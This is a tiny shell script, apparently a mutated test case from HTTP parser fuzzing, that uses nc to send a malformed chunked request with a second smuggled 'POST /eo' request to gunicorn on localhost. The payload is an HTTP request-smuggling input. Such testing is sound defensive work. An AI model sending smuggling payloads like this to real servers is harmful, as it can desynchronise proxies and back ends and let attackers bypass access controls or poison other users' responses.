#!/bin/sh
# desync/connection-invalid/smuggled-request via byte.replace+stream.duplicate against gunicorn
printf 'OST / HTTP/1.1\r\nConnection:Transfer\tn\r\nTransfer-Encoding:chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nPOST /eo HTTP/1.1\r\n\r\n' | nc 127.0.0.1 ${PORT:-39237}
